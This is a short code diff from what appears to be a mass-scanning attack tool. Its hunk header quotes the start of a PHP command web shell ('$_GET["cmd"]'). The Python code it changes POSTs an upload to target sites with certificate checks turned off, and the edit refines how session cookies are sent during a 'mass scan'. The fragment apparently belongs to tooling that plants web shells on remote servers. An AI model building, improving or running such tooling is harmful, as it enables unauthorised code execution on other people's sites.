@@ -2240,9 +2240,11 @@ if(isset($_GET["cmd"])) {
                 form_data['template_url'] = 'local'
                 
 
-                site_cookies = self.session.cookies.get_dict()
+                # The session may be shared across a mass scan; send only the cookies the jar
+                # would send for this URL (domain cookies and redirected hosts included)
+                site_cookies = requests.cookies.get_cookie_header(self.session.cookies, requests.Request('POST', upload_url))
                 if site_cookies:
-                    self.headers['Cookie'] = '; '.join([f"{k}={v}" for k, v in site_cookies.items()])
+                    self.headers['Cookie'] = site_cookies
                 
                 response = self.session.post(upload_url, data=form_data, files=files, headers=self.headers, timeout=self.timeout, verify=False)
                 